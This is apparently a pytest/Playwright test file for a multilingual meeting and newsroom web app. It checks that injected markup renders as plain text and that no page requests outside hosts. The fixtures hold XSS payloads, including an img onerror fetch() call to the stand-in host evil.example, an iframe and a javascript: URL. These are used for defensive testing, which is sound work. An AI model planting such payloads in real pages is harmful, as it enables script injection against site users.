"""What is written in a meeting is text wherever it is shown, and no page asks anybody else for anything (S14, S20)."""

from collections.abc import Iterator
from contextlib import contextmanager
from uuid import uuid4
from xml.etree import ElementTree

import pytest
from django.test import override_settings
from playwright.sync_api import Browser, Page, expect

from prachum.asgi import Application
from prachum.newsroom.drafting import draft
from prachum.registry import accounts
from prachum.registry.models import Meeting, Person
from prachum.rules.conclusions import ConfirmConclusion, EnterConclusion, Verb
from prachum.rules.decisions.consensus import EnterText
from prachum.rules.delegations import AccreditPerson, SeatPerson
from prachum.rules.meeting import CloseMeeting
from prachum.rules.order import DOOR, SECRETARIAT, ItemId, PersonId, Standing
from prachum.rules.parties import Nameplate
from prachum.rules.proposals import Area, TableProposal
from tests.live.clients import Served
from tests.live.conftest import serve_alone
from tests.registry.hall import MYS_HEAD, SECRETARY, THA_HEAD, act, hall, in_session
from tests.web.screens import chromium

EVIL = "evil.example"
MARKUP = f"<img src=//{EVIL}/a.png onerror=fetch('//{EVIL}/b')>"
HOSTILE = f"{MARKUP} <iframe src=https://{EVIL}/c></iframe> https://{EVIL}/d javascript:alert(1) [x](//{EVIL})"
RAPPORTEUR = PersonId("sec-rapporteur")
PASSWORD = "a rather long pass phrase"


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    yield from serve_alone(Application(), media=False)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def weapon() -> Meeting:
    """A meeting in session in which every text is hostile."""
    texts = {"en": HOSTILE, "th": HOSTILE}
    meeting = hall(title=texts)
    in_session(meeting)
    act(meeting.id, SeatPerson(THA_HEAD, Nameplate(texts, texts, texts, texts)), DOOR)
    Person.objects.filter(meeting=meeting, person=THA_HEAD).update(nameplate={"title": texts, "name": texts})
    act(meeting.id, AccreditPerson(RAPPORTEUR, SECRETARIAT, Standing.RAPPORTEUR))
    act(meeting.id, TableProposal(texts, (Area(texts, texts, (texts,)),)), THA_HEAD)
    act(meeting.id, EnterConclusion(ItemId("opening"), Verb.NOTED, texts), RAPPORTEUR)
    act(meeting.id, ConfirmConclusion("c1"), MYS_HEAD)
    act(meeting.id, EnterText("outcome", 1, texts, texts), SECRETARY)
    return meeting


@contextmanager
def watched(browser: Browser, served: Served) -> Iterator[Page]:
    """A page of which everything that it asks is noted; asking others, or a complaint of its rules, fails."""
    context = browser.new_context(locale="en", reduced_motion="reduce")
    opened = context.new_page()
    elsewhere: list[str] = []
    complaints: list[str] = []
    context.route("**/*", lambda route: route.continue_())
    ours = (served.address, "data:", "blob:")
    context.on("request", lambda asked: None if asked.url.startswith(ours) else elsewhere.append(asked.url))
    opened.on("console", lambda said: complaints.append(said.text) if "Security Policy" in said.text else None)
    opened.on("dialog", lambda dialog: complaints.append(dialog.message))
    try:
        yield opened
    finally:
        context.close()
    assert not elsewhere
    assert not complaints


def has_nothing_of_theirs(opened: Page) -> None:
    made = f"[src*='{EVIL}'], [href*='{EVIL}'], [action*='{EVIL}'], [srcset*='{EVIL}'], [style*='{EVIL}']"
    assert opened.locator(made).count() == 0
    assert opened.locator("[onerror*='fetch'], a[href^='javascript:']").count() == 0


def test_the_chamber_shows_all_of_it_as_text(browser: Browser, served: Served, weapon: Meeting) -> None:
    with watched(browser, served) as opened:
        opened.goto(f"{served.address}/meetings/{weapon.id}/")
        expect(opened.locator(".hall")).to_be_visible(timeout=30_000)
        expect(opened.get_by_text("<img src=").first).to_be_visible(timeout=30_000)
        tabs = opened.get_by_role("tab")
        expect(tabs).not_to_have_count(0)
        for tab in tabs.all():
            tab.click()
            has_nothing_of_theirs(opened)
        assert opened.get_by_text("<img src=").count() >= 3


def test_home_seats_record_and_journal_show_it_as_text(browser: Browser, served: Served, weapon: Meeting) -> None:
    with watched(browser, served) as opened:
        for path in ("/", f"/meetings/{weapon.id}/seats/", f"/meetings/{weapon.id}/record/", "/api/"):
            opened.goto(f"{served.address}{path}")
            has_nothing_of_theirs(opened)
            if path != "/api/":
                expect(opened.get_by_text("<img src=").first).to_be_visible()


def test_news_feed_and_desk_show_it_as_text(browser: Browser, served: Served, weapon: Meeting) -> None:
    act(weapon.id, CloseMeeting(), MYS_HEAD)
    pages = draft(weapon)
    assert pages
    with watched(browser, served) as opened:
        for language in ("en", "th"):
            opened.goto(f"{served.address}/{language}/news/")
            has_nothing_of_theirs(opened)
        for page in pages:
            opened.goto(f"{served.address}{page.url.removeprefix('http://localhost')}")
            has_nothing_of_theirs(opened)
            assert "<img src=" in opened.locator("main").inner_text()
            assert EVIL not in opened.locator("main img").evaluate_all("all => all.map(one => one.src).join()")
        for said in (
            opened.request.get(f"{served.address}/en/news/feed/"),
            opened.request.get(f"{served.address}/th/news/feed/"),
        ):
            assert ElementTree.fromstring(said.body()).find("channel") is not None
        logs_in(opened, served)
        for path in ("/editorial/", f"/editorial/pages/{pages[0].pk}/edit/", "/editorial/pages/search/?q=img"):
            opened.goto(f"{served.address}{path}")
            expect(opened.locator("main").first).to_be_visible()
            has_nothing_of_theirs(opened)


def logs_in(opened: Page, served: Served) -> None:
    name = f"anna-{uuid4().hex[:8]}"
    with override_settings(PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"]):
        accounts.add(name, accounts.OPERATOR, PASSWORD)
        opened.goto(f"{served.address}/editorial/login/")
        opened.get_by_label("Username").fill(name)
        opened.get_by_label("Password").fill(PASSWORD)
        opened.get_by_role("button", name="Sign in").click()
        opened.wait_for_url(f"{served.address}/editorial/")
